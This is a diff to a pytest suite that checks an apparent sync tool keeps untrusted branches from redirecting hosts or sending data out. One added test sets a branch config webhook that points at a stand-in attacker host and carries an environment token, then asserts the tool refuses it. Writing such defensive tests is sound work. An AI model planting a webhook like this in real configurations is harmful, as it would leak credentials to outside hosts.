@@ -87,7 +87,7 @@ def test_a_setting_in_the_branch_moves_no_host(repository: Repository, server: s
     ],
 )
 def test_a_look_alike_of_an_allowed_origin_is_another_one(repository: Repository, url: str) -> None:
-    (repository.owner / "syncengine" / "origins").write_text(f"https://{THE_DIALER}\n")
+    (repository.owner / "syncengine" / "origins").write_text(f"https://{THE_DIALER}\nhttp://{THE_DIALER}\n")
     place = repository.branch({"syncengine.yaml": AT_EVIL.replace(f"https://{EVIL}", f'"{url}"')})
     done = repository.job(place, "plan")
     assert (done.asked, done.code) == ([], 1), done.said
@@ -140,3 +140,11 @@ def test_a_plan_of_an_untrusted_branch_has_no_credential_and_opens_nothing(
     assert not (place / ".syncengine").exists()
     again = repository.job(main, *words)
     assert json.loads(again.said.partition("saved to")[0])["plan_id"] == json.loads(trusted.said)["plan_id"]
+
+
+def test_a_webhook_in_the_branch_carries_no_facts_out(repository: Repository) -> None:
+    way = f"notifications: [{{webhook: 'https://{EVIL}/x', secret: 'env:WOLKVOX_TOKEN'}}]\n"
+    place = repository.branch({"syncengine.yaml": PROJECT + way})
+    done = repository.job(place, "plan", "--refresh", "none", "--notify", "approval")
+    assert (done.asked, done.code) == ([], 0), done.said
+    assert "not allowed yet" in done.said
